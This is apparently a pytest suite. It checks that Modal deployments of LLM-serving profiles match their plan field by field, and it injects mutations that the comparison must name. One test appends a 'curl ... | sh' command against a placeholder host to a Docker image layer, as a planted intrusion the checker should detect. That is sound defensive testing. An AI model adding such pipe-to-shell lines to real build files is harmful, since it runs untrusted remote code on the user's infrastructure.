"""What Modal receives equals the plan, both ways, for every optional unit (issue 19).

One profile (or overrides of one) per optional feature is deployed with the real modal client
against the local control plane; ``compare_plan`` checks every plan field against the recorded
definitions and (tests/modalbox/review.py) every field of every recorded Function / image layer
against the plan or a reviewed Modal default. The mutations below are the ones nothing caught
before: each must fail naming the proto field.

Adding a unit: one line in ``UNIT_PROFILES`` (a profile whose plan has it) and one in
``modalbox.compare.UNIT_IMPLEMENTATIONS``; ``test_every_role_and_feature_is_deployed`` fails
until both exist.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import typing

import pytest

from modalbox.box import box  # noqa: F401  (fixture)
from modalbox.compare import UNIT_IMPLEMENTATIONS, SentApp, compare_plan, sent_app
from modalbox.review import FUNCTION_DEFAULTS

BERLIN_WINDOWS = [{"days": ["mon-fri"], "start": "08:00", "end": "19:30", "timezone": "Europe/Berlin"}]

# feature → (profile, overrides): each is deployed once and compared both ways.
UNIT_PROFILES: dict[str, tuple[str, dict]] = {
    "setup, serve, bench": ("glm51_fp8", {}),
    "keep_warm (non-UTC windows)": ("glm51_fp8", {"serving.warm_windows": BERLIN_WINDOWS}),
    "multi-node cluster": ("glm51_fp8_h100x2", {}),
    "region-pinned server and bench": ("glm51_fp8_h200", {"serving.compute_region": "us-east"}),
}

SCRIPT = """\
from pathlib import Path
from modal_llm_deploy import build_app, build_plan, load_profile
profile = load_profile({name!r}, {overrides!r})
Path({out!r}).write_text(build_plan(profile).model_dump_json())
app = build_app(profile)
"""


@dataclasses.dataclass
class Deployed:
    plan: dict
    sent: SentApp


@pytest.fixture(scope="module")
def deployed(box, tmp_path_factory) -> dict[str, Deployed]:
    out: dict[str, Deployed] = {}
    for i, (feature, (name, overrides)) in enumerate(UNIT_PROFILES.items()):
        d = tmp_path_factory.mktemp(f"unit{i}")
        script = d / "deploy.py"
        script.write_text(SCRIPT.format(name=name, overrides=overrides, out=str(d / "plan.json")))
        res = box.modal("deploy", str(script))
        assert res.returncode == 0, res.stdout + res.stderr
        out[feature] = Deployed(json.loads((d / "plan.json").read_text()), sent_app(box.cp, res.calls))
    return out


@pytest.mark.parametrize("feature", list(UNIT_PROFILES))
def test_each_feature_deploys_exactly_its_plan_both_ways(deployed, feature):
    d = deployed[feature]
    problems = compare_plan(d.plan, d.sent)
    assert problems == [], "\n".join(problems)


def test_every_role_and_feature_is_deployed(deployed):
    from modal_llm_deploy.plan.models import Role

    roles = {u["role"] for d in deployed.values() for u in d.plan["units"]}
    assert set(typing.get_args(Role)) <= roles, f"no profile in UNIT_PROFILES deploys {set(typing.get_args(Role)) - roles}"
    assert set(typing.get_args(Role)) <= set(UNIT_IMPLEMENTATIONS)
    kw = next(u for u in deployed["keep_warm (non-UTC windows)"].plan["units"] if u["role"] == "keep_warm")
    assert kw["schedule"]["timezone"] == "Europe/Berlin"
    assert any(u["cluster_size"] for u in deployed["multi-node cluster"].plan["units"])
    bench = next(u for u in deployed["region-pinned server and bench"].plan["units"] if u["role"] == "bench")
    assert bench["region"] == "us-east"


def _mutated(d: Deployed, unit: str, change) -> list[str]:
    """compare_plan over a copy of the recorded definitions with ``change(Function)`` applied to one unit."""
    units = dict(d.sent.units)
    fn = copy.deepcopy(units[unit].function)
    change(fn)
    units[unit] = dataclasses.replace(units[unit], function=fn)
    return compare_plan(d.plan, SentApp(d.sent.name, units))


def _set_timezone_utc(fn):
    fn.schedule.cron.timezone = "UTC"  # modal.Cron(spec) without timezone= (schedule.py default)


# The four mutations of issue 19 "Done when", and more fields no plan field maps to.
MUTATIONS = [
    ("server", lambda fn: setattr(fn.scheduler_placement, "nonpreemptible", True),
     "units[server].Function.scheduler_placement.nonpreemptible"),
    ("keep_warm", _set_timezone_utc, "units[keep_warm].schedule (schedule.cron.timezone)"),
    ("server", lambda fn: setattr(fn.resources, "ephemeral_disk_mb", 800_000),
     "units[server].Function.resources.ephemeral_disk_mb"),
    ("compile_deepgemm", lambda fn: setattr(fn, "cloud_provider_str", "oci"),
     "units[compile_deepgemm].Function.cloud_provider_str"),
    ("server", lambda fn: setattr(fn.autoscaler_settings, "scaleup_window", 5),
     "units[server].Function.autoscaler_settings.scaleup_window"),
    ("download_model", lambda fn: setattr(fn, "block_network", True), "units[download_model].Function.block_network"),
    ("bench", lambda fn: setattr(fn.autoscaler_settings, "min_containers", 1),
     "units[bench].Function.autoscaler_settings.min_containers"),
    ("verify_setup", lambda fn: setattr(fn.volume_mounts[0], "sub_path", "x"),
     "units[verify_setup].Function.volume_mounts[].sub_path"),
    ("server", lambda fn: fn.schedule.period.CopyFrom(type(fn.schedule.period)(hours=1)),
     "units[server].Function.schedule.period"),
]


@pytest.mark.parametrize("unit,change,field", MUTATIONS, ids=[m[2] for m in MUTATIONS])
def test_a_field_the_plan_does_not_ask_for_fails_naming_it(deployed, unit, change, field):
    problems = _mutated(deployed["keep_warm (non-UTC windows)"], unit, change)
    assert any(p.startswith(field) for p in problems), "\n".join(problems) or "no problem reported"


def test_an_unreviewed_field_fails_even_unset(deployed, monkeypatch):
    """A field a new modal version adds to the descriptor is unreviewed until listed: simulated by
    taking a reviewed one off the list. Unset, it still fails, named."""
    d = deployed["setup, serve, bench"]
    monkeypatch.delitem(FUNCTION_DEFAULTS, "rate_limit")
    problems = compare_plan(d.plan, d.sent)
    assert "units[server].Function.rate_limit: unset here; no plan field maps to it" in "\n".join(problems)


def test_image_layers_are_the_plans_steps_in_order(deployed):
    """An extra command in a layer, and the plan's steps in another order, both fail."""
    d = deployed["setup, serve, bench"]
    u = d.sent.units["server"]
    layers = [copy.deepcopy(x) for x in u.layers]
    layers[-1].dockerfile_commands.append("RUN curl -s https://example.invalid/x | sh")
    units = {**d.sent.units, "server": dataclasses.replace(u, layers=layers)}
    text = "\n".join(compare_plan(d.plan, SentApp(d.sent.name, units)))
    assert "units[server].image[sglang] layer" in text and "RUN curl" in text and "comes from no plan field" in text

    swapped = list(u.layers)
    swapped[1], swapped[2] = swapped[2], swapped[1]  # ENTRYPOINT [] after the pip layer
    units = {**d.sent.units, "server": dataclasses.replace(u, layers=swapped)}
    text = "\n".join(compare_plan(d.plan, SentApp(d.sent.name, units)))
    assert "units[server].image[sglang] layers (dockerfile_commands, in order)" in text


def test_the_review_list_names_only_real_fields():
    """Every reviewed path names a field of this modal's Function (a renamed field is not
    silently 'reviewed')."""
    from modal_proto import api_pb2

    from modalbox.review import IMAGE_CLAIMED, IMAGE_DEFAULTS, REQUEST_DEFAULTS, resolves

    assert [p for p in FUNCTION_DEFAULTS if not resolves(p)] == []
    assert [p for p in [*IMAGE_DEFAULTS, *IMAGE_CLAIMED] if not resolves(p, api_pb2.Image.DESCRIPTOR)] == []
    assert [p for p in REQUEST_DEFAULTS if not resolves(p, api_pb2.FunctionCreateRequest.DESCRIPTOR)] == []
    assert not resolves("scheduler_placement.preemptible") and not resolves("volume_mounts.read_only")


def test_a_rendered_option_the_plan_lacks_fails_through_the_real_client(box, tmp_path):
    """End to end: the renderer's options mutated in the deploy script (the server asks for a
    non-preemptible placement, keep-warm's Cron loses its timezone) reach Modal through the real
    client, and the comparison names both fields."""
    import textwrap

    script = tmp_path / "mutated_deploy.py"
    script.write_text(textwrap.dedent(f"""\
        import functools
        from pathlib import Path
        import modal
        from modal_llm_deploy import build_app, build_plan, load_profile

        server = modal.App.server
        modal.App.server = functools.partialmethod(lambda self, **kw: server(self, **kw, nonpreemptible=True))
        cron = modal.Cron.__init__
        modal.Cron.__init__ = lambda self, spec, timezone="UTC": cron(self, spec)  # the timezone is dropped
        profile = load_profile("glm51_fp8", {{"serving.warm_windows": {BERLIN_WINDOWS!r}}})
        Path({str(tmp_path / "plan.json")!r}).write_text(build_plan(profile).model_dump_json())
        app = build_app(profile)
        """))
    res = box.modal("deploy", str(script))
    assert res.returncode == 0, res.stdout + res.stderr
    problems = compare_plan(json.loads((tmp_path / "plan.json").read_text()), sent_app(box.cp, res.calls))
    assert any(p.startswith("units[server].Function.scheduler_placement.nonpreemptible: sent True") for p in problems)
    assert "units[keep_warm].schedule (schedule.cron.timezone): plan 'Europe/Berlin' != sent 'UTC'" in problems
    assert len(problems) == 2, "\n".join(problems)


def test_an_object_the_definition_does_not_name_fails(deployed):
    """object_dependencies must be exactly the image, secrets and volumes compared with the plan."""
    def extra_dependency(fn):
        fn.object_dependencies.add(object_id="sb-someone-elses-sandbox")

    problems = _mutated(deployed["setup, serve, bench"], "bench", extra_dependency)
    assert any(p.startswith("units[bench].Function.object_dependencies: sent [") for p in problems), problems
